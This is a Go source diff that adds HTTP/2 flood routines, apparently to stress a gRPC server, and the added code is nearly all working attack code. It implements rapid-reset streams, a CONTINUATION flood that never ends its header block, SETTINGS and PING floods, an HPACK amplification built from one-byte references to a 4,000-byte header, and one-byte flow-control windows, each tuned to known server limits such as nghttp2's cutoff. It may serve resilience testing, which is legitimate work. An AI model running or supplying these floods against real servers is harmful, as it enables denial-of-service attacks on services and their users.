@@ -1,0 +1,131 @@
+// Floods of frames: what HTTP/2 allows, too much of it.
+package main
+
+import (
+	"bytes"
+	"strings"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+const frameBytes = 16 * 1024
+
+// Calls that are reset at once. With a token they are of a caller with a grant.
+func resets(f *flood) {
+	f.attack(attack{connections: 10, unit: "resets", write: func(c *connection) error {
+		all := newBlocks(f)
+		block := all.next(f.token)
+		for id := uint32(1); ; id += 2 {
+			headers := http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}
+			if err := c.WriteHeaders(headers); err != nil {
+				return err
+			}
+			if err := c.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
+				return err
+			}
+			c.sent++
+			if id == 1 {
+				// All of it is in the table by now, and each block the same few bytes.
+				block = bytes.Clone(all.next(f.token))
+			}
+		}
+	}})
+}
+
+// A header block that never ends.
+func continuation(f *flood) {
+	var fields bytes.Buffer
+	encoder := hpack.NewEncoder(&fields)
+	for fields.Len() < frameBytes-100 {
+		_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: "some value", Sensitive: true})
+	}
+	f.attack(attack{connections: 10, unit: "CONTINUATION frames", write: func(c *connection) error {
+		block := newBlocks(f).next("")
+		if err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}); err != nil {
+			return err
+		}
+		for {
+			if err := c.WriteContinuation(1, false, fields.Bytes()); err != nil {
+				return err
+			}
+			c.sent++
+		}
+	}})
+}
+
+func settings(f *flood, reads bool) {
+	f.attack(attack{connections: 10, unit: "SETTINGS frames", deaf: !reads, write: func(c *connection) error {
+		for {
+			if err := c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65_535}); err != nil {
+				return err
+			}
+			c.sent++
+		}
+	}})
+}
+
+func pings(f *flood, reads bool) {
+	f.attack(attack{connections: 10, unit: "PING frames", deaf: !reads, write: func(c *connection) error {
+		for {
+			if err := c.WritePing(false, [8]byte{}); err != nil {
+				return err
+			}
+			c.sent++
+		}
+	}})
+}
+
+// CONTINUATION frames of a header block: nghttp2 ends a connection at the ninth.
+const continuations = 8
+
+// References of one byte each to a header of 4,000 bytes, in header blocks as long as they may be.
+func headers(f *flood) {
+	const reference = 0x80 | 62 // the newest entry of the dynamic table, RFC 7541 §6.1
+	references := bytes.Repeat([]byte{reference}, frameBytes)
+	first := pseudoHeaders(f, hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4_000)})
+	later := pseudoHeaders(f)
+	f.attack(attack{connections: 10, unit: "header blocks", write: func(c *connection) error {
+		block := first
+		for id := uint32(1); ; id += 2 {
+			frame := http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true}
+			if err := c.WriteHeaders(frame); err != nil {
+				return err
+			}
+			for n := range continuations {
+				if err := c.WriteContinuation(id, n == continuations-1, references); err != nil {
+					return err
+				}
+			}
+			c.sent++
+			block = later
+		}
+	}})
+}
+
+// A call's headers, none of which enters the dynamic table, and others behind them.
+func pseudoHeaders(f *flood, others ...hpack.HeaderField) []byte {
+	var block bytes.Buffer
+	encoder := hpack.NewEncoder(&block)
+	all := []hpack.HeaderField{
+		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
+		{Name: ":path", Value: f.method, Sensitive: true}, {Name: ":authority", Value: f.grpc, Sensitive: true},
+	}
+	for _, field := range append(all, others...) {
+		_ = encoder.WriteField(field)
+	}
+	return block.Bytes()
+}
+
+// Streams at a time that a connection may have.
+const streams = 100
+
+// Calls whose answers get room for one byte, and never more.
+func window(f *flood) {
+	message := f.message()
+	one := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1}
+	f.calls(callsAttack{
+		connections: 100, settings: []http2.Setting{one}, unit: "calls with a window of 1",
+		message: message, token: func() string { return f.token },
+	})
+}
